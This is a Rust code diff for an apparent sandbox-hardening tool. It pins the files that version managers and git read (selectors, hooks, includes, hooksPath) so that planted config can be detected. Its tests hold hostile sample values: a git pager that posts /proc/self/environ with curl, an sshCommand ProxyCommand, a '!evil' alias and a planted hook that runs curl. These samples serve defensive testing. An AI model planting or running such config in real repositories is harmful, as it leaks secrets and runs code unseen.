@@ -122,6 +122,29 @@ pub const TABLE: &[Loader] = &[
         pins: cargo,
     },
     Loader {
+        tool: "version managers: pyenv, rbenv, nodenv, asdf, mise, rustup, nvm",
+        names: &["pyenv", "rbenv", "nodenv", "asdf", "mise", "nvm"],
+        reads: "pyenv(1) / rbenv / nodenv README \"Choosing the version\": $X_VERSION, .python-version \
+                (.ruby-version, .node-version) in the directory and every parent, $ROOT/version; \
+                hooks sourced from $ROOT/X.d and $ROOT/plugins/*/etc/X.d (exec, which, \
+                version-name) before the program runs; asdf: .tool-versions up the tree and in \
+                HOME, ~/.asdfrc, plugins' bin/exec-env; mise: mise.toml, .mise.toml, \
+                mise.local.toml, .mise/config.toml, .config/mise.toml, .tool-versions up the tree, \
+                ~/.config/mise/config.toml ([env], [hooks], tasks); rustup overrides: \
+                rust-toolchain(.toml) up the tree, ~/.rustup/settings.toml, $RUSTUP_TOOLCHAIN; \
+                nvm: .nvmrc (nvm use)",
+        pinned: "for every command whose policy PATH holds a manager's shims or proxies (and for \
+                 the manager run by name): its selector files in the directory and every parent \
+                 and in HOME, the root's version file, its hook directories (each hook, three \
+                 levels down), its own code (libexec) and the installed versions or toolchains \
+                 (each one's bin and lib entries), by directory fingerprint",
+        neutralised: "PYENV_*, RBENV_VERSION/ROOT/DIR/HOOK_PATH, NODENV_VERSION/ROOT/DIR/HOOK_PATH, \
+                      ASDF_*_VERSION, ASDF_DATA_DIR/DIR/CONFIG_FILE, MISE_*_VERSION, \
+                      MISE_DATA_DIR/CONFIG_DIR/CONFIG_FILE/ENV, RUSTUP_HOME, RUSTUP_TOOLCHAIN, \
+                      NVM_DIR never pass",
+        pins: managers_by_name,
+    },
+    Loader {
         tool: "node / deno",
         names: &["node", "nodejs", "deno"],
         reads: "nodejs.org/api/cli.html: NODE_OPTIONS, NODE_PATH (no rc file is read by default; \
@@ -202,9 +225,38 @@ pub fn is_loader_var(name: &str) -> bool {
         "RUSTUP_UPDATE_ROOT",
         "BUN_INSTALL",
     ];
+    // Version managers: which interpreter or toolchain a shim runs, and where hooks come from.
+    const MANAGERS: &[&str] = &[
+        "RBENV_VERSION",
+        "RBENV_ROOT",
+        "RBENV_DIR",
+        "RBENV_HOOK_PATH",
+        "NODENV_VERSION",
+        "NODENV_ROOT",
+        "NODENV_DIR",
+        "NODENV_HOOK_PATH",
+        "ASDF_DATA_DIR",
+        "ASDF_DIR",
+        "ASDF_CONFIG_FILE",
+        "ASDF_DEFAULT_TOOL_VERSIONS_FILENAME",
+        "MISE_DATA_DIR",
+        "MISE_CONFIG_DIR",
+        "MISE_CONFIG_FILE",
+        "MISE_ENV",
+        "MISE_DEFAULT_CONFIG_FILENAME",
+        "MISE_DEFAULT_TOOL_VERSIONS_FILENAME",
+        "MISE_OVERRIDE_CONFIG_FILENAMES",
+        "MISE_SHIMS_DIR",
+        "NVM_DIR",
+    ];
     // pyenv: which interpreter a shim runs.
     const PREFIX: &[&str] = &["PYENV_"];
+    // `ASDF_PYTHON_VERSION`, `MISE_NODE_VERSION`: the version of one tool.
+    let tool_version =
+        (name.starts_with("ASDF_") || name.starts_with("MISE_")) && name.ends_with("_VERSION");
     EXACT.contains(&name)
+        || MANAGERS.contains(&name)
+        || tool_version
         || PREFIX.iter().any(|p| name.starts_with(p))
         || NEUTRALISE.iter().any(|(k, _)| *k == name)
 }
@@ -238,6 +290,201 @@ pub fn inputs(family: &str, arg0: &str, cx: &Ctx<'_>) -> Vec<InputPin> {
 }
 
 fn none(_: &Ctx<'_>, _: &str, _: &mut Pins) {}
+
+// ---------------------------------------------------------------------------------------------
+// version managers
+
+/// A version manager: how its root is recognised from a PATH directory, and what it reads.
+struct Manager {
+    name: &'static str,
+    /// A file (relative to the root) whose presence says the root is this manager's.
+    marker: &'static str,
+    /// Selector files looked up in the working directory and every parent.
+    selectors: &'static [&'static str],
+    /// Selector or configuration files relative to HOME.
+    home_files: &'static [&'static str],
+    /// Files relative to the root (the global version).
+    root_files: &'static [&'static str],
+    /// Hook directories relative to the root (`*` is any plugin).
+    hooks: &'static [&'static str],
+    /// The manager's code and installed versions, relative to the root.
+    code: &'static [&'static str],
+}
+
+/// Version managers whose shims or proxies run a program chosen from files the agent writes.
+const MANAGERS: &[Manager] = &[
+    Manager {
+        name: "pyenv",
+        marker: "libexec/pyenv",
+        selectors: &[".python-version"],
+        home_files: &[],
+        root_files: &["version"],
+        hooks: &["pyenv.d", "plugins/*/etc/pyenv.d"],
+        code: &["libexec", "plugins/*/bin", "versions"],
+    },
+    Manager {
+        name: "rbenv",
+        marker: "libexec/rbenv",
+        selectors: &[".ruby-version"],
+        home_files: &[],
+        root_files: &["version"],
+        hooks: &["rbenv.d", "plugins/*/etc/rbenv.d"],
+        code: &["libexec", "plugins/*/bin", "versions"],
+    },
+    Manager {
+        name: "nodenv",
+        marker: "libexec/nodenv",
+        selectors: &[".node-version"],
+        home_files: &[],
+        root_files: &["version"],
+        hooks: &["nodenv.d", "plugins/*/etc/nodenv.d"],
+        code: &["libexec", "plugins/*/bin", "versions"],
+    },
+    Manager {
+        name: "asdf",
+        marker: "installs",
+        selectors: &[".tool-versions"],
+        home_files: &[".tool-versions", ".asdfrc"],
+        root_files: &[],
+        hooks: &["plugins"],
+        code: &["installs", "bin", "lib"],
+    },
+    Manager {
+        name: "mise",
+        marker: "installs",
+        selectors: &[
+            "mise.toml",
+            ".mise.toml",
+            "mise.local.toml",
+            ".mise.local.toml",
+            ".mise/config.toml",
+            "mise/config.toml",
+            ".config/mise.toml",
+            ".config/mise/config.toml",
+            ".tool-versions",
+        ],
+        home_files: &[".config/mise/config.toml", ".tool-versions"],
+        root_files: &[],
+        hooks: &["plugins"],
+        code: &["installs"],
+    },
+    Manager {
+        name: "rustup",
+        marker: "",
+        selectors: &["rust-toolchain", "rust-toolchain.toml"],
+        home_files: &[".rustup/settings.toml"],
+        root_files: &[],
+        hooks: &[],
+        code: &["toolchains"],
+    },
+    Manager {
+        name: "nvm",
+        marker: "nvm.sh",
+        selectors: &[".nvmrc"],
+        home_files: &[],
+        root_files: &["alias/default"],
+        hooks: &[],
+        code: &[],
+    },
+];
+
+/// The manager and root a PATH directory belongs to: `ROOT/shims` (pyenv, rbenv, nodenv, asdf,
+/// mise), `ROOT/plugins/P/shims` and `ROOT/bin` (pyenv-virtualenv, the manager itself), a
+/// directory holding `rustup` (its proxies: the root is HOME's `.rustup`, as `RUSTUP_HOME`
+/// never passes), `ROOT/versions/node/V/bin` (nvm).
+fn manager_of(dir: &Path, home: Option<&Path>) -> Option<(&'static Manager, PathBuf)> {
+    let by_name = |n: &str| MANAGERS.iter().find(|m| m.name == n);
+    if dir.join("rustup").is_file() {
+        return Some((by_name("rustup")?, home?.join(".rustup")));
+    }
+    for root in dir.ancestors().skip(1).take(4) {
+        for m in MANAGERS.iter().filter(|m| !m.marker.is_empty()) {
+            let mise = m.name == "mise";
+            let asdf = m.name == "asdf";
+            let named = root.file_name().and_then(|n| n.to_str()).unwrap_or("");
+            let hit = if mise {
+                named == "mise" && root.join(m.marker).exists()
+            } else if asdf {
+                named != "mise" && root.join(m.marker).is_dir() && root.join("plugins").is_dir()
+            } else {
+                root.join(m.marker).exists()
+            };
+            if hit {
+                return Some((m, root.to_path_buf()));
+            }
+        }
+    }
+    None
+}
+
+/// Pins what a version manager reads for `root` (see [`MANAGERS`]).
+fn manager_pins(m: &Manager, root: &Path, cx: &Ctx<'_>, out: &mut Pins) {
+    let globbed = |rel: &str| -> Vec<PathBuf> {
+        match rel.split_once("/*/") {
+            Some((a, b)) => {
+                let mut v: Vec<PathBuf> = std::fs::read_dir(root.join(a))
+                    .map(|rd| {
+                        rd.filter_map(Result::ok)
+                            .map(|e| e.path().join(b))
+                            .collect()
+                    })
+                    .unwrap_or_default();
+                v.sort();
+                v.truncate(MAX_FILES);
+                v
+            }
+            None => vec![root.join(rel)],
+        }
+    };
+    for d in up(cx.cwd) {
+        for f in m.selectors {
+            out.add("version-selector", &d.join(f), None);
+        }
+    }
+    for f in m.home_files {
+        if let Some(p) = home_file(cx, f) {
+            out.add("version-selector", &p, None);
+        }
+    }
+    for f in m.root_files {
+        out.add("version-selector", &root.join(f), None);
+    }
+    let what = format!("{} hooks, run before the program", m.name);
+    for h in m.hooks.iter().flat_map(|h| globbed(h)) {
+        out.add_dir("version-manager-hooks", &h, &what);
+    }
+    let what = format!("{} code and installed versions", m.name);
+    for c in m.code.iter().flat_map(|c| globbed(c)) {
+        if c.exists() {
+            out.add_dir("toolchain-dir", &c, &what);
+        }
+    }
+}
+
+/// Version-manager pins for every directory of the child's `search_path` that holds a
+/// manager's shims or proxies (see [`MANAGERS`]).
+pub fn manager_inputs(search_path: &str, cx: &Ctx<'_>) -> Vec<InputPin> {
+    let mut out = Pins::default();
+    let mut roots: Vec<PathBuf> = Vec::new();
+    for d in search_path.split(':').filter(|d| d.starts_with('/')) {
+        if let Some((m, root)) = manager_of(Path::new(d), cx.home)
+            && !roots.contains(&root)
+        {
+            manager_pins(m, &root, cx, &mut out);
+            roots.push(root);
+        }
+    }
+    out.0
+}
+
+/// The manager run by name (`pyenv exec ...`): its root from the executable's directory.
+fn managers_by_name(cx: &Ctx<'_>, _: &str, out: &mut Pins) {
+    if let Some(dir) = cx.exe.parent()
+        && let Some((m, root)) = manager_of(dir, cx.home)
+    {
+        manager_pins(m, &root, cx, out);
+    }
+}
 
 /// [`TABLE`] as a Markdown table (what `docs/hardening.md` shows).
 #[cfg(test)]
@@ -283,6 +530,21 @@ impl Pins {
         }
         self.0.push(p);
         Some(text)
+    }
+
+    /// Pins a directory by fingerprint (`crate::path_dirs`), at the depth its role says.
+    fn add_dir(&mut self, role: &str, dir: &Path, what: &str) {
+        if self.0.len() >= MAX_FILES * 4 || self.0.iter().any(|q| Path::new(&q.path) == dir) {
+            return;
+        }
+        let depth = crate::path_dirs::depth_for(role);
+        self.0
+            .extend(crate::path_dirs::pin_dir(role, dir, depth, what));
+    }
+
+    /// Whether `path` (canonicalised) is pinned already.
+    fn has(&self, path: &Path) -> bool {
+        std::fs::canonicalize(path).is_ok_and(|c| self.0.iter().any(|q| Path::new(&q.path) == c))
     }
 
     fn add(&mut self, role: &str, path: &Path, detail: Option<String>) -> bool {
@@ -362,55 +624,6 @@ const GIT_CODE_KEYS: &[&str] = &[
     "ssh.variant",
 ];
 
-/// Parses git config text into `(section[.subsection].key, value)` pairs (lower-case section and
-/// key; enough to find the settings above, not a full parser: continuation lines are ignored).
-fn git_config_pairs(text: &str) -> Vec<(String, String, String)> {
-    let mut out = Vec::new();
-    let mut section = String::new();
-    let mut sub = String::new();
-    // git skips a UTF-8 byte order mark at the start of a config file: so must we, or the first
-    // section's header is lost and its code-running keys go unflagged on the card.
-    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
-    for raw in text.lines() {
-        let mut line = raw.trim();
-        if line.starts_with('[') {
-            let end = line.find(']').unwrap_or(line.len());
-            let head = line.get(1..end).unwrap_or("").trim();
-            line = line.get(end + 1..).unwrap_or("").trim();
-            match head.split_once(|c: char| c.is_whitespace()) {
-                Some((s, rest)) => {
-                    section = s.to_ascii_lowercase();
-                    sub = rest.trim().trim_matches('"').to_owned();
-                }
-                None => match head.split_once('.') {
-                    Some((s, rest)) => {
-                        section = s.to_ascii_lowercase();
-                        sub = rest.to_owned();
-                    }
-                    None => {
-                        section = head.to_ascii_lowercase();
-                        sub.clear();
-                    }
-                },
-            }
-        }
-        if line.is_empty() || line.starts_with('#') || line.starts_with(';') {
-            continue;
-        }
-        let (k, v) = match line.split_once('=') {
-            Some((k, v)) => (k.trim(), v.trim()),
-            None => (line, "true"),
-        };
-        let v = v.trim_matches('"').to_owned();
-        out.push((
-            section.clone(),
-            sub.clone(),
-            format!("{}={v}", k.to_ascii_lowercase()),
-        ));
-    }
-    out
-}
-
 fn git_key_runs_code(section: &str, sub: &str, key: &str, value: &str) -> bool {
     if section == "alias" {
         return value.starts_with('!');
@@ -426,40 +639,95 @@ fn git_key_runs_code(section: &str, sub: &str, key: &str, value: &str) -> bool {
     })
 }
 
+/// What one git config file says that matters here: the code-running settings (for the card),
+/// and, in file order, the files it includes and the hooks paths it sets.
 struct GitConfig {
     detail: Option<String>,
-    includes: Vec<PathBuf>,
-    hooks_path: Option<String>,
+    /// `(include path, None)` or `(None, hooks path)` items, in file order.
+    items: Vec<GitItem>,
 }
 
+enum GitItem {
+    Include(PathBuf),
+    HooksPath(String),
+}
+
+/// Parses a config file with git's own syntax ([`crate::gitconfig`]: continuations, quotes,
+/// escapes, comments, both header forms) and keeps what the card shows and what is followed.
 fn parse_git_config(text: &str, path: &Path, home: Option<&Path>) -> GitConfig {
     let mut shown = Vec::new();
-    let mut includes = Vec::new();
-    let mut hooks_path = None;
+    let mut items = Vec::new();
     let base = path.parent().unwrap_or(Path::new("/"));
-    for (section, sub, kv) in git_config_pairs(text) {
-        let (key, value) = kv.split_once('=').unwrap_or((&kv, ""));
-        if !git_key_runs_code(&section, &sub, key, value) {
+    let parsed = crate::gitconfig::parse(text.as_bytes());
+    for e in &parsed.entries {
+        let sub = e.sub.as_deref().unwrap_or("");
+        let value = e.value.as_deref().unwrap_or("");
+        if !git_key_runs_code(&e.section, sub, &e.key, value) {
             continue;
         }
-        let name = if sub.is_empty() {
-            format!("{section}.{key}")
+        // Quoted when it holds what would blur the list (`;`, a newline, spaces at an end).
+        let v = if value.contains([';', '\n', '\r', '\t']) || value.trim() != value {
+            format!("{value:?}")
         } else {
-            format!("{section}.{sub}.{key}")
+            value.to_owned()
         };
-        shown.push(format!("{name}={value}"));
-        if key == "path" && (section == "include" || section == "includeif") {
-            includes.push(expand(value, base, home));
+        shown.push(format!("{}={v}", e.name()));
+        if let Some(v) = &e.value {
+            if e.key == "path" && (e.section == "include" || e.section == "includeif") {
+                items.push(GitItem::Include(expand(v, base, home)));
+            }
+            if e.section == "core" && e.sub.is_none() && e.key == "hookspath" {
+                items.push(GitItem::HooksPath(v.clone()));
+            }
         }
-        if section == "core" && key == "hookspath" {
-            hooks_path = Some(value.to_owned());
-        }
+    }
+    if let Some(n) = parsed.bad_line {
+        shown.push(format!("bad config line {n} (git refuses this file)"));
     }
     GitConfig {
         detail: (!shown.is_empty()).then(|| format!("runs or redirects: {}", shown.join("; "))),
-        includes,
-        hooks_path,
+        items,
     }
+}
+
+/// git's include depth limit (`MAX_INCLUDE_DEPTH` in config.c).
+const GIT_MAX_INCLUDE_DEPTH: usize = 10;
+
+/// Pins a git config file and, depth first in git's order, every file it includes (`include.path`
+/// and `includeIf.*.path`, whatever the condition); returns the last `core.hooksPath` set, as git
+/// would see it after this file (`hooks` is the value before it).
+fn git_config_file(
+    cx: &Ctx<'_>,
+    out: &mut Pins,
+    path: &Path,
+    depth: usize,
+    budget: &mut usize,
+    hooks: Option<String>,
+) -> Option<String> {
+    if depth > GIT_MAX_INCLUDE_DEPTH || *budget == 0 {
+        return hooks;
+    }
+    *budget -= 1;
+    let home = cx.home;
+    let text = match out.add_text("git-config", path, |t| {
+        parse_git_config(t, path, home).detail
+    }) {
+        Some(t) => t,
+        // Already pinned (included twice): read again for its order-dependent settings.
+        None if out.has(path) => match read_for_requester(path) {
+            Some(t) => t,
+            None => return hooks,
+        },
+        None => return hooks,
+    };
+    let mut hooks = hooks;
+    for item in parse_git_config(&text, path, home).items {
+        match item {
+            GitItem::Include(p) => hooks = git_config_file(cx, out, &p, depth + 1, budget, hooks),
+            GitItem::HooksPath(h) => hooks = Some(h),
+        }
+    }
+    hooks
 }
 
 /// A path from a config file: `~/` is the child's HOME, relative paths are relative to `base`.
@@ -520,9 +788,11 @@ fn git_dirs(start: &Path) -> Option<(PathBuf, PathBuf, PathBuf)> {
 fn git(cx: &Ctx<'_>, _: &str, out: &mut Pins) {
     let (start, git_dir) = git_start(cx);
     // Global config: ~/.gitconfig and ~/.config/git/config (XDG_CONFIG_HOME never passes).
-    let mut configs: Vec<PathBuf> = ["/.gitconfig", "/.config/git/config"]
+    // Global config in git's order: $XDG_CONFIG_HOME/git/config (XDG_CONFIG_HOME never passes),
+    // then ~/.gitconfig; then the repository's config and config.worktree.
+    let mut configs: Vec<PathBuf> = [".config/git/config", ".gitconfig"]
         .iter()
-        .filter_map(|r| home_file(cx, r.trim_start_matches('/')))
+        .filter_map(|r| home_file(cx, r))
         .collect();
     let dirs = match git_dir {
         Some(g) => {
@@ -537,24 +807,10 @@ fn git(cx: &Ctx<'_>, _: &str, out: &mut Pins) {
         configs.push(common.join("config"));
         configs.push(gitdir.join("config.worktree"));
     }
+    let mut budget = MAX_FILES;
     let mut hooks_path = None;
-    let mut seen = 0;
-    while let Some(c) = configs.first().cloned() {
-        configs.remove(0);
-        seen += 1;
-        if seen > MAX_FILES {
-            break;
-        }
-        let home = cx.home;
-        let Some(text) = out.add_text("git-config", &c, |t| parse_git_config(t, &c, home).detail)
-        else {
-            continue;
-        };
-        let parsed = parse_git_config(&text, &c, home);
-        configs.extend(parsed.includes);
-        if parsed.hooks_path.is_some() {
-            hooks_path = parsed.hooks_path;
-        }
+    for c in configs {
+        hooks_path = git_config_file(cx, out, &c, 0, &mut budget, hooks_path);
     }
     let hooks_dir = match (&hooks_path, &dirs) {
         (Some(h), Some((_, _, work))) => Some(expand(h, work, cx.home)),
@@ -590,11 +846,8 @@ fn git_submodules(cx: &Ctx<'_>, modules: &Path, out: &mut Pins) {
             let config = d.join("config");
             if config.is_file() {
                 let home = cx.home;
-                let hooks = out
-                    .add_text("git-config", &config, |t| {
-                        parse_git_config(t, &config, home).detail
-                    })
-                    .and_then(|t| parse_git_config(&t, &config, home).hooks_path)
+                let mut budget = MAX_FILES;
+                let hooks = git_config_file(cx, out, &config, 0, &mut budget, None)
                     .map_or_else(|| d.join("hooks"), |h| expand(&h, &d, home));
                 pin_dir(out, "git-hook", &hooks, |n| !n.ends_with(".sample"));
                 stack.push(d.join("modules"));
@@ -1016,7 +1269,15 @@ mod tests {
         assert!(detail.contains("alias.p=!sh evil"), "{detail}");
         assert!(!detail.contains("alias.st"), "{detail}");
         assert!(detail.contains("remote.origin.uploadpack=./u"), "{detail}");
-        assert_eq!(c.includes, vec![PathBuf::from("/h/more.inc")]);
+        let inc: Vec<PathBuf> = c
+            .items
+            .iter()
+            .filter_map(|i| match i {
+                GitItem::Include(p) => Some(p.clone()),
+                GitItem::HooksPath(_) => None,
+            })
+            .collect();
+        assert_eq!(inc, vec![PathBuf::from("/h/more.inc")]);
         // A byte order mark (which git skips) does not hide the first section's keys.
         let bom = "\u{feff}[filter \"y\"]\n\tclean = sh -c 'env > /tmp/f; cat'\n[core]\n\thooksPath = /tmp/h\n";
         let c = parse_git_config(bom, &p, Some(Path::new("/h")));
@@ -1026,6 +1287,64 @@ mod tests {
             detail.contains("core.hookspath=/tmp/h") || detail.contains("core.hooksPath=/tmp/h"),
             "{detail}"
         );
+    }
+
+    #[test]
+    fn git_config_values_are_shown_whole_as_git_reads_them() {
+        let p = Path::new("/r/.git/config");
+        // A continuation inside quotes: the card must not stop at the first line.
+        let t = "[core]\n\tpager = \"less \\\n; curl -d @/proc/self/environ x\"\n\tsshCommand = ssh\\\n -oProxyCommand=evil # c\n";
+        let d = parse_git_config(t, p, None).detail.unwrap();
+        assert!(
+            d.contains("core.pager=\"less ; curl -d @/proc/self/environ x\""),
+            "{d}"
+        );
+        assert!(d.contains("core.sshcommand=ssh -oProxyCommand=evil"), "{d}");
+        // The deprecated header form, a key on the header's line, and a subsection whose case
+        // git keeps.
+        let t = "[Filter.LFS]Clean = x\n[diff \"Pdf\"] textconv = \"y\\tz\"\n";
+        let d = parse_git_config(t, p, None).detail.unwrap();
+        assert!(d.contains("filter.lfs.clean=x"), "{d}");
+        assert!(d.contains("diff.Pdf.textconv=\"y\\tz\""), "{d}");
+        // git refuses a file with a bad line: said so.
+        let d = parse_git_config("[core]\n\tpager = \\q\n", p, None)
+            .detail
+            .unwrap();
+        assert!(d.contains("bad config line 2"), "{d}");
+    }
+
+    #[test]
+    fn git_includes_are_followed_in_order_and_the_last_hooks_path_wins() {
+        let d = tempfile::tempdir().unwrap();
+        let repo = d.path().join("repo");
+        std::fs::create_dir_all(repo.join(".git/hooks")).unwrap();
+        std::fs::create_dir_all(repo.join("late")).unwrap();
+        std::fs::create_dir_all(repo.join("early")).unwrap();
+        std::fs::write(repo.join("late/h1"), "#!/bin/sh\n").unwrap();
+        std::fs::write(repo.join("early/h0"), "#!/bin/sh\n").unwrap();
+        // The include comes after hooksPath in the file, so the included value wins (git reads
+        // includes where they stand); `includeIf` is followed whatever its condition.
+        std::fs::write(
+            repo.join(".git/config"),
+            "[core]\n\thooksPath = early\n[include]\n\tpath = \"inc\\\n.cfg\"\n[includeIf \"onbranch:x\"]\n\tpath = cond.cfg\n",
+        )
+        .unwrap();
+        std::fs::write(repo.join(".git/inc.cfg"), "[core]\n\thooksPath = late\n").unwrap();
+        std::fs::write(repo.join(".git/cond.cfg"), "[alias]\n\tx = !evil\n").unwrap();
+        let argv = sv(&["git", "status"]);
+        let pins = inputs(
+            "git",
+            "git",
+            &ctx(&argv, &repo, Path::new("/usr/bin/git"), d.path()),
+        );
+        let names: Vec<&str> = pins
+            .iter()
+            .map(|p| p.path.rsplit('/').next().unwrap())
+            .collect();
+        assert!(names.contains(&"inc.cfg"), "{names:?}");
+        assert!(names.contains(&"cond.cfg"), "{names:?}");
+        assert!(names.contains(&"h1"), "{names:?}");
+        assert!(!names.contains(&"h0"), "{names:?}");
     }
 
     #[test]
@@ -1235,15 +1554,140 @@ mod tests {
     }
 
     #[test]
+    fn version_managers_are_found_from_path_and_their_files_pinned() {
+        let d = tempfile::tempdir().unwrap();
+        let home = d.path().join("home");
+        let app = home.join("proj/app");
+        std::fs::create_dir_all(&app).unwrap();
+        let mk = |rel: &str, body: &str| {
+            let p = home.join(rel);
+            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+            std::fs::write(&p, body).unwrap();
+        };
+        // One fake install per manager.
+        for (root, marker) in [
+            (".pyenv", "libexec/pyenv"),
+            (".rbenv", "libexec/rbenv"),
+            (".nodenv", "libexec/nodenv"),
+            (".asdf", "installs/python/3.12/bin/python"),
+            (".local/share/mise", "installs/node/22/bin/node"),
+            (".nvm", "nvm.sh"),
+        ] {
+            mk(&format!("{root}/{marker}"), "#!/bin/sh\n");
+            mk(&format!("{root}/shims/tool"), "#!/bin/sh\n");
+        }
+        std::fs::create_dir_all(home.join(".asdf/plugins/python/bin")).unwrap();
+        mk(".asdf/plugins/python/bin/exec-env", "echo\n");
+        mk(".pyenv/pyenv.d/exec/hook.bash", "echo\n");
+        mk(
+            ".pyenv/plugins/pyenv-virtualenv/etc/pyenv.d/which/v.bash",
+            "echo\n",
+        );
+        mk(".pyenv/version", "3.12.1\n");
+        mk(".nvm/versions/node/v22.0.0/bin/node", "x");
+        mk(".cargo/bin/rustup", "x");
+        mk(".rustup/settings.toml", "default_toolchain = \"stable\"\n");
+        mk(".rustup/toolchains/stable/bin/cargo", "x");
+        for f in [
+            "proj/.python-version",
+            "proj/app/.ruby-version",
+            "proj/.node-version",
+            "proj/.tool-versions",
+            "proj/app/mise.toml",
+            "proj/.mise/config.toml",
+            "proj/app/.nvmrc",
+            "proj/rust-toolchain.toml",
+            ".config/mise/config.toml",
+            ".asdfrc",
+        ] {
+            mk(f, "x\n");
+        }
+        let path: Vec<String> = [
+            ".pyenv/shims",
+            ".pyenv/plugins/pyenv-virtualenv/shims",
+            ".rbenv/shims",
+            ".nodenv/shims",
+            ".asdf/shims",
+            ".local/share/mise/shims",
+            ".nvm/versions/node/v22.0.0/bin",
+            ".cargo/bin",
+        ]
+        .iter()
+        .map(|r| home.join(r).display().to_string())
+        .chain(["/usr/bin".to_owned()])
+        .collect();
+        let argv = sv(&["make", "test"]);
+        let cx = ctx(&argv, &app, Path::new("/usr/bin/make"), &home);
+        let pins = manager_inputs(&path.join(":"), &cx);
+        let has = |rel: &str, role: &str| {
+            let want = std::fs::canonicalize(home.join(rel))
+                .unwrap_or_else(|_| home.join(rel))
+                .display()
+                .to_string();
+            pins.iter().any(|p| {
+                (p.path == want || p.path == home.join(rel).display().to_string()) && p.role == role
+            })
+        };
+        for (rel, role) in [
+            ("proj/.python-version", "version-selector"),
+            (".pyenv/version", "version-selector"),
+            (".pyenv/pyenv.d", "version-manager-hooks"),
+            (
+                ".pyenv/plugins/pyenv-virtualenv/etc/pyenv.d",
+                "version-manager-hooks",
+            ),
+            (".pyenv/libexec", "toolchain-dir"),
+            ("proj/app/.ruby-version", "version-selector"),
+            (".rbenv/rbenv.d", "version-manager-hooks"),
+            ("proj/.node-version", "version-selector"),
+            ("proj/.tool-versions", "version-selector"),
+            (".asdfrc", "version-selector"),
+            (".asdf/plugins", "version-manager-hooks"),
+            (".asdf/installs", "toolchain-dir"),
+            ("proj/app/mise.toml", "version-selector"),
+            ("proj/.mise/config.toml", "version-selector"),
+            (".config/mise/config.toml", "version-selector"),
+            (".local/share/mise/installs", "toolchain-dir"),
+            ("proj/app/.nvmrc", "version-selector"),
+            ("proj/rust-toolchain.toml", "version-selector"),
+            (".rustup/settings.toml", "version-selector"),
+            (".rustup/toolchains", "toolchain-dir"),
+        ] {
+            assert!(has(rel, role), "{rel} ({role}) not pinned: {pins:#?}");
+        }
+        // A hook planted later changes the hooks' fingerprint; so does a selector.
+        let hooks = pins
+            .iter()
+            .find(|p| p.role == "version-manager-hooks" && p.path.ends_with("/.pyenv/pyenv.d"))
+            .unwrap();
+        assert!(crate::path_dirs::still_holds(hooks));
+        mk(".pyenv/pyenv.d/exec/evil.bash", "curl x\n");
+        assert!(!crate::path_dirs::still_holds(hooks));
+        // An asdf layout is not taken for mise's, nor the other way round.
+        let m = manager_of(&home.join(".local/share/mise/shims"), Some(&home)).unwrap();
+        assert_eq!(m.0.name, "mise");
+        let a = manager_of(&home.join(".asdf/shims"), Some(&home)).unwrap();
+        assert_eq!(a.0.name, "asdf");
+        assert!(manager_of(Path::new("/usr/bin"), Some(&home)).is_none());
+    }
+
+    #[test]
     fn loader_vars_and_neutralisers() {
         for v in [
             "MAKEFILES",
             "YARN_YARN_PATH",
             "PIP_CONFIG_FILE",
             "RUSTUP_TOOLCHAIN",
+            "PYENV_VERSION",
+            "RBENV_VERSION",
+            "NODENV_HOOK_PATH",
+            "ASDF_PYTHON_VERSION",
+            "MISE_NODE_VERSION",
+            "MISE_CONFIG_FILE",
         ] {
             assert!(is_loader_var(v), "{v}");
         }
+        assert!(!is_loader_var("MISE_GITHUB_TOKEN"));
         assert!(is_loader_var("PYTHONNOUSERSITE"));
         assert!(!is_loader_var("NODE_ENV"));
         assert!(NEUTRALISE.contains(&("PYTHONNOUSERSITE", "1")));
